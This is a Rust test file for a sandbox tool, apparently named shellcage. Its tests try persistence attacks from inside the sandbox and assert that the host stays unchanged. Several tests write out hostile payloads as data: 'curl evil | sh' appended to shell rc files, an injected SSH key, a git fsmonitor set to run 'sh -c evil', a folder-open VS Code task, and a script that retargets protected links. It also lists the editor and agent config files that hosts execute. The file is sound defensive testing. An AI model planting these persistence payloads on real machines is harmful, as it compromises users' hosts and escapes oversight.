//! Persistence: nothing written inside may run later on the host (rc files,
//! git hooks and config, editor/agent settings) or survive outside the workspace.

use std::path::Path;

use crate::harness::*;

/// Append to HOME/REL inside: it lands in the private $HOME tmpfs at most, the
/// host file keeps its bytes. Control: the same append on the host changes it.
fn home_rc(c: &Ctx, rel: &str) {
    let host_file = c.plant(rel, "# original\n");
    let before = read_opt(&host_file);
    let out = c.probe_sc(
        &[],
        &["append", &host_file.display().to_string(), "curl evil | sh"],
    );
    c.seen(&format!(
        "{} (in the private home); host unchanged",
        out.result()
    ));
    let r = out.result();
    assert!(r.starts_with("OK") || r.starts_with("ERR "), "{out:?}");
    assert_eq!(read_opt(&host_file), before, "host {rel} changed");
    let control = c.probe_host(&["append", &host_file.display().to_string(), "x"]);
    assert_ok(&control);
    assert_ne!(read_opt(&host_file), before, "control did not change {rel}");
}

attack!(persist_bashrc, "persistence", |c| {
    home_rc(&c, ".bashrc")
});
attack!(persist_profile, "persistence", |c| {
    home_rc(&c, ".profile")
});
attack!(persist_zshrc, "persistence", |c| { home_rc(&c, ".zshrc") });

attack!(persist_ssh_authorized_keys, "persistence", |c| {
    let path = c.home().join(".ssh/authorized_keys");
    let out = c.sc(
        &[],
        &format!(
            "mkdir -p ~/.ssh && echo ssh-ed25519 AAAA evil >> {}; echo rc=$?",
            path.display()
        ),
    );
    c.seen(&format!("{}; host file absent", out.all().trim()));
    assert!(!path.exists(), "host authorized_keys created");
    let control = c.host(&format!("mkdir -p ~/.ssh && echo x >> {}", path.display()));
    assert_eq!(control.code, Some(0));
    assert!(path.exists());
});

/// Write the workspace-relative REL inside (present at start or not); the
/// kernel refuses and the host bytes (or absence) are unchanged.
fn protected(c: &Ctx, rel: &str, present: bool) {
    let host = c.ws.path().join(rel);
    if present {
        c.ws.write(rel, "{}\n");
    }
    let before = read_opt(&host);
    let out = c.probe_sc(&[], &["create", rel, "{\"evil\": true}"]);
    // Absent at start, the name is held by a placeholder link to a path under
    // /proc/0, which cannot exist: writing through it fails with ENOENT, and
    // making it a directory with EEXIST.
    let refused: &[&str] = if present {
        &["EROFS", "EACCES", "EPERM"]
    } else {
        &["EROFS", "EACCES", "EPERM", "ENOENT", "EEXIST"]
    };
    let r = assert_errno(&out, refused);
    c.seen(&r);
    let after = read_opt(&host);
    if present {
        assert_eq!(after, before, "{rel} changed on the host");
    } else {
        // Absent at start: still absent (or an empty placeholder) afterwards.
        assert!(
            after.as_deref().is_none_or(|b| b.is_empty()) || host.is_dir(),
            "{rel} created on the host: {after:?}"
        );
        let _ = std::fs::remove_file(&host);
    }
    // Control: the host can write it.
    let control = c.probe_host(&["create", rel, "{\"evil\": true}"]);
    assert_ok(&control);
    assert_ne!(read_opt(&host), before);
}

macro_rules! protected_cases {
    ($($name:ident => ($rel:literal, $present:literal),)*) => {$(
        attack!($name, "persistence", |c| { protected(&c, $rel, $present); });
    )*};
}

protected_cases! {
    persist_envrc_absent => (".envrc", false),
    persist_envrc_present => (".envrc", true),
    persist_vscode_tasks_absent => (".vscode/tasks.json", false),
    persist_vscode_tasks_present => (".vscode/tasks.json", true),
    persist_claude_settings_absent => (".claude/settings.json", false),
    persist_claude_settings_present => (".claude/settings.json", true),
    persist_mcp_json_absent => (".mcp.json", false),
    persist_mcp_json_present => (".mcp.json", true),
    persist_devcontainer_absent => (".devcontainer/devcontainer.json", false),
    // Issue 8, item 6: configuration more editors and agents execute (see profiles/dev.toml).
    persist_devcontainer_json_root_absent => (".devcontainer.json", false),
    persist_zed_settings_absent => (".zed/settings.json", false),
    persist_gemini_settings_absent => (".gemini/settings.json", false),
    persist_windsurf_hooks_absent => (".windsurf/hooks.json", false),
    persist_kiro_hook_absent => (".kiro/hooks/lint.json", false),
    persist_opencode_plugin_absent => (".opencode/plugins/p.ts", false),
    persist_pre_commit_config_absent => (".pre-commit-config.yaml", false),
    persist_pre_commit_config_present => (".pre-commit-config.yaml", true),
    persist_husky_hook_absent => (".husky/pre-commit", false),
    persist_yarnrc_yml_present => (".yarnrc.yml", true),
    persist_cargo_config_absent => (".cargo/config.toml", false),
    persist_mise_toml_present => ("mise.toml", true),
    // Issue 8, item 6, more names (each failed on main: created on the host).
    persist_npmrc_absent => (".npmrc", false),
    persist_nvim_lua_absent => (".nvim.lua", false),
    persist_opencode_json_absent => ("opencode.json", false),
    persist_pnpmfile_absent => (".pnpmfile.cjs", false),
    persist_tool_versions_absent => (".tool-versions", false),
    persist_code_workspace_present => ("mine.code-workspace", true),
}

// Issue 8, item 6: `*.code-workspace` at the root (VS Code offers to open it;
// its tasks run on folder open). A pattern has no name to hold, so a new one
// made inside is renamed `*.shellcage-disabled` at exit and named on stderr
// (failed on main: it stayed). Control: made on the host, it stays.
attack!(persist_code_workspace_new, "persistence", |c| {
    let body = r#"{"folders":[{"path":"."}],"tasks":{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch pwned","runOptions":{"runOn":"folderOpen"}}]}}"#;
    let out = c.probe_sc(&[], &["create", "evil.code-workspace", body]);
    let host = c.ws.path().join("evil.code-workspace");
    c.seen(&format!(
        "{}; host after the run: {}",
        out.result(),
        if host.exists() { "present" } else { "renamed" }
    ));
    assert!(!host.exists(), "the workspace file stayed on the host");
    assert!(
        c.ws.path()
            .join("evil.code-workspace.shellcage-disabled")
            .exists()
    );
    assert!(
        out.stderr.contains("disabled evil.code-workspace"),
        "{out:?}"
    );
    let control = c.probe_host(&["create", "evil.code-workspace", body]);
    assert_ok(&control);
    assert!(host.exists());
});

attack!(persist_git_hook_new, "persistence", |c| {
    let ws = crate::common::Workspace::git();
    c.ws = ws;
    std::fs::write(c.ws.path().join(".probe.py"), PROBE).unwrap();
    let hook = c.ws.path().join(".git/hooks/pre-commit");
    let out = c.probe_sc(&[], &["create", ".git/hooks/pre-commit", "#!/bin/sh\nevil"]);
    let r = assert_errno(&out, &["EROFS", "EACCES", "EPERM"]);
    c.seen(&r);
    assert!(!hook.exists(), "hook created on the host");
    assert_ok(&c.probe_host(&["create", ".git/hooks/pre-commit", "x"]));
    assert!(hook.exists());
});

attack!(persist_git_hook_existing, "persistence", |c| {
    c.ws = crate::common::Workspace::git();
    std::fs::write(c.ws.path().join(".probe.py"), PROBE).unwrap();
    let hook = c.ws.write(".git/hooks/post-checkout", "#!/bin/sh\ntrue\n");
    let before = sha256(&hook);
    let out = c.probe_sc(&[], &["append", ".git/hooks/post-checkout", "evil"]);
    let r = assert_errno(&out, &["EROFS", "EACCES", "EPERM"]);
    c.seen(&r);
    assert_eq!(sha256(&hook), before);
    assert_ok(&c.probe_host(&["append", ".git/hooks/post-checkout", "x"]));
    assert_ne!(sha256(&hook), before);
});

attack!(persist_git_config_fsmonitor, "persistence", |c| {
    c.ws = crate::common::Workspace::git();
    let config = c.ws.path().join(".git/config");
    let before = sha256(&config);
    let script = "git config core.fsmonitor 'sh -c evil'; echo rc=$?; \
                  git config core.hooksPath /tmp/h; echo rc=$?";
    let out = c.sc(&[], script);
    c.seen(out.all().trim());
    // git inside writes a private copy (issue 13, item 2); at exit only keys
    // that name things are merged back: these two are refused and named.
    assert!(out.stdout.contains("rc="), "{out:?}");
    assert!(
        out.stderr
            .contains("refused core.fsmonitor, core.hookspath"),
        "{out:?}"
    );
    assert_eq!(sha256(&config), before, ".git/config changed");
    let control = c.host(script);
    assert!(control.stdout.contains("rc=0"), "{control:?}");
    assert_ne!(sha256(&config), before);
});

/// Write a file named after the canary's tail under DIR inside; nothing appears
/// on the host. Control: writing there on the host creates it (removed again).
fn outside(c: &Ctx, dir: &str, expect_ok_inside: bool) {
    let name = format!("shellcage-attack-{}", &c.canary[7..]);
    let path = Path::new(dir).join(&name);
    let out = c.probe_sc(&[], &["create", &path.display().to_string(), "payload"]);
    let r = out.result();
    c.seen(&format!("{r}; host {} absent", path.display()));
    if expect_ok_inside {
        assert!(r.starts_with("OK"), "{out:?}");
    } else {
        assert_errno(&out, &["EROFS", "EACCES", "EPERM", "ENOENT"]);
    }
    assert!(!path.exists(), "{} appeared on the host", path.display());
    // Control (root only for /etc: an unprivileged host user cannot write it).
    if dir != "/etc" || crate::common::is_root() {
        let control = c.probe_host(&["create", &path.display().to_string(), "payload"]);
        assert_ok(&control);
        assert!(path.exists());
        std::fs::remove_file(&path).unwrap();
    }
}

attack!(persist_write_tmp, "persistence", |c| {
    outside(&c, "/tmp", true)
});
attack!(persist_write_dev_shm, "persistence", |c| {
    outside(&c, "/dev/shm", true)
});
attack!(persist_write_etc, "persistence", |c| {
    outside(&c, "/etc", false)
});
attack!(persist_write_home, "persistence", |c| {
    let home = c.home().display().to_string();
    outside(&c, &home, true)
});

// Review finding: renaming `.git` used to carry the read-only binds of
// `.git/hooks` and `.git/config` away, so a fresh writable `.git` could take
// its place. The directories above protected paths are pinned (mount points).
attack!(persist_git_rename_parent, "persistence", |c| {
    let ok = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(c.ws.path())
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let hook = c.ws.path().join(".git/hooks/pre-commit");
    let out = c.sc(
        &[],
        "mv .git .git-old; echo mv=$?; mkdir -p .git/hooks 2>/dev/null; printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; echo write=$?",
    );
    c.seen(out.all().trim());
    assert!(
        out.all().contains("Device or resource busy"),
        "{}",
        out.all()
    );
    assert!(
        !c.ws.path().join(".git-old").exists(),
        ".git was moved on the host"
    );
    assert!(!hook.exists(), "a pre-commit hook reached the host");
    // Control: without the sandbox the same rename works.
    let control = c.host("mv .git .git-old && echo moved");
    assert!(control.all().contains("moved"));
    assert!(c.ws.path().join(".git-old").is_dir());
});

// `.git/commondir` and `.git/config.worktree`: see git.rs (held for the whole run).

/// Every way to replace, retarget or write through the protected link REL
/// from inside; prints what worked (nothing should).
const LINK_ATTACK: &str = r#"l=$0
( echo pwned > "$l/settings.json" ) 2>/dev/null && echo WROTE-THROUGH
ln -sfn /tmp "$l" 2>/dev/null && [ "$(readlink "$l")" = /tmp ] && echo RETARGETED
rm -f "$l" 2>/dev/null; [ -L "$l" ] || echo REMOVED
mv "$l" "$l.moved" 2>/dev/null && echo MOVED
python3 -c 'import os,sys; os.rename(sys.argv[1]+".x", sys.argv[1])' "$l" 2>/dev/null; : > "$l.x" 2>/dev/null; python3 -c 'import os,sys; os.rename(sys.argv[1]+".x", sys.argv[1])' "$l" 2>/dev/null && echo REPLACED
echo done"#;

fn link_attack(c: &Ctx, rel: &str) -> Out {
    c.sc_cmd(&[], &["/bin/sh", "-c", LINK_ATTACK, rel])
        .output()
        .map(Out::from_output)
        .unwrap()
}

// Issue 15, section 4: a protected path that is a symlink (`.claude ->
// tools/claude-config`, a common layout) made every run refuse (exit 125 on
// main). Now the link itself is held (mounted as itself) and the directory it
// leads to is protected too.
attack!(persist_symlink_to_dir_inside, "persistence", |c| {
    c.ws.write("tools/claude-config/settings.json", "{}\n");
    std::os::unix::fs::symlink("tools/claude-config", c.ws.path().join(".claude")).unwrap();
    let before = crate::common::snapshot(c.ws.path());
    let out = link_attack(&c, ".claude");
    let direct = c.sc(
        &[],
        "echo pwned > tools/claude-config/settings.json; echo rc=$?",
    );
    c.seen(&format!(
        "{}; direct write: {}",
        out.all().trim().replace('\n', " "),
        direct.stdout.trim()
    ));
    assert_eq!(out.code, Some(0), "{out:?}");
    assert_eq!(out.stdout.trim(), "done", "{out:?}");
    assert!(!direct.stdout.contains("rc=0"), "{direct:?}");
    let after: Vec<_> = crate::common::snapshot(c.ws.path())
        .into_iter()
        .filter(|(p, _)| !p.starts_with(".probe.py") && !p.starts_with(".claude.x"))
        .collect();
    let before: Vec<_> = before
        .into_iter()
        .filter(|(p, _)| !p.starts_with(".probe.py") && !p.starts_with(".claude.x"))
        .collect();
    assert_eq!(after, before);
    // Control: on the host the same script retargets and removes the link.
    let control = c
        .host_cmd(&["/bin/sh", "-c", LINK_ATTACK, ".claude"])
        .output()
        .unwrap();
    let control = Out::from_output(control);
    assert!(control.stdout.contains("WROTE-THROUGH"), "{control:?}");
    assert!(control.stdout.contains("RETARGETED"), "{control:?}");
});

// A protected link to a hidden path (`.claude -> ~/.ssh`): held, and what it
// leads to stays hidden.
attack!(persist_symlink_to_hidden_path, "persistence", |c| {
    c.plant_secret(".ssh/id_ed25519");
    std::os::unix::fs::symlink(c.home().join(".ssh"), c.ws.path().join(".claude")).unwrap();
    let read = c.probe_sc(&[], &["read", ".claude/id_ed25519"]);
    let r = assert_errno(&read, &["ENOENT", "EACCES", "ENOTDIR"]);
    c.assert_no_canary(&read);
    let out = link_attack(&c, ".claude");
    c.seen(&format!(
        "read: {r}; {}",
        out.stdout.trim().replace('\n', " ")
    ));
    assert_eq!(out.stdout.trim(), "done", "{out:?}");
    assert_eq!(
        std::fs::read_link(c.ws.path().join(".claude")).unwrap(),
        c.home().join(".ssh")
    );
    let control = c.probe_host(&["read", ".claude/id_ed25519"]);
    c.assert_control_leaks(&control);
});

// A protected link to a directory outside every visible path: held (the run
// is not refused); nothing inside can retarget it.
attack!(persist_symlink_to_outside, "persistence", |c| {
    let outside = tempfile::tempdir_in(std::env::temp_dir()).unwrap();
    std::os::unix::fs::symlink(outside.path(), c.ws.path().join(".vscode")).unwrap();
    let out = link_attack(&c, ".vscode");
    c.seen(&out.stdout.trim().replace('\n', " "));
    assert_eq!(out.code, Some(0), "{out:?}");
    assert_eq!(out.stdout.trim(), "done", "{out:?}");
    assert_eq!(
        std::fs::read_link(c.ws.path().join(".vscode")).unwrap(),
        outside.path()
    );
    assert!(std::fs::read_dir(outside.path()).unwrap().next().is_none());
    let control = c
        .host_cmd(&["/bin/sh", "-c", LINK_ATTACK, ".vscode"])
        .output()
        .unwrap();
    assert!(Out::from_output(control).stdout.contains("RETARGETED"));
});

/// `shellcage run` from DIR (a directory of the fake home) without `--workspace`,
/// or with `--workspace DIR` when `named`.
fn run_in_home_dir(c: &Ctx, dir: &Path, named: bool, tier: &str, script: &str) -> Out {
    let mut cmd = std::process::Command::new(crate::common::bin());
    cmd.args(["run", "--tier", tier]);
    if named {
        cmd.arg("--workspace").arg(dir);
    }
    cmd.args(["--", "/bin/sh", "-c", script])
        .env("HOME", c.home())
        .env_remove("SHELLCAGE_PROFILE")
        .env_remove("SHELLCAGE_WORKSPACE")
        .current_dir(dir)
        .stdin(std::process::Stdio::null());
    Out::from_output(cmd.output().unwrap())
}

// Issue 8 item 7: with the current directory ~/.config and no workspace given,
// ~/.config became the writable workspace and a user service could be planted
// (systemd starts it at the next login). Refused now; naming the directory with
// --workspace is the user's choice (the control: the same script then writes it,
// so the case can see the effect).
attack!(persist_workspace_in_config_dir, "persistence", |c| {
    let config = c.home().join(".config");
    std::fs::create_dir_all(&config).unwrap();
    let unit = config.join("systemd/user/evil.service");
    let script =
        "mkdir -p systemd/user && echo '[Service]' > systemd/user/evil.service; echo rc=$?";
    let out = run_in_home_dir(&c, &config, false, "full", script);
    c.seen(&format!("code={:?} {}", out.code, out.stderr.trim()));
    assert_eq!(out.code, Some(125), "{out:?}");
    assert!(out.stderr.contains("configuration directory"), "{out:?}");
    assert!(out.stderr.contains("--workspace"), "no hint: {out:?}");
    assert!(!unit.exists(), "the unit was created on the host");
    let control = run_in_home_dir(&c, &config, true, "full", script);
    assert_eq!(control.code, Some(0), "control: {control:?}");
    assert!(
        unit.exists(),
        "control: the named workspace was not written"
    );
});

// The home itself is refused as the workspace, found from the current
// directory or named with --workspace, in both tiers (on main the container
// tier took it and the script wrote ~/.bash_login). Control: the same script
// from a project directory below the home writes its file.
attack!(persist_workspace_is_home, "persistence", |c| {
    let rc = c.home().join(".bash_login");
    let script = "echo 'curl evil | sh' >> .bash_login; echo rc=$?";
    let mut seen = Vec::new();
    for tier in ["container", "full"] {
        for named in [false, true] {
            let out = run_in_home_dir(&c, c.home(), named, tier, script);
            seen.push(format!("{tier} named={named}: code={:?}", out.code));
            assert_eq!(out.code, Some(125), "{tier} named={named}: {out:?}");
            assert!(out.stderr.contains("is your home directory"), "{out:?}");
            assert!(!rc.exists(), "the home was written ({tier}, named={named})");
        }
    }
    c.seen(&seen.join("; "));
    let proj = c.home().join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    let control = run_in_home_dir(&c, &proj, false, "full", script);
    assert_eq!(control.code, Some(0), "control: {control:?}");
    assert!(proj.join(".bash_login").exists(), "control wrote nothing");
});
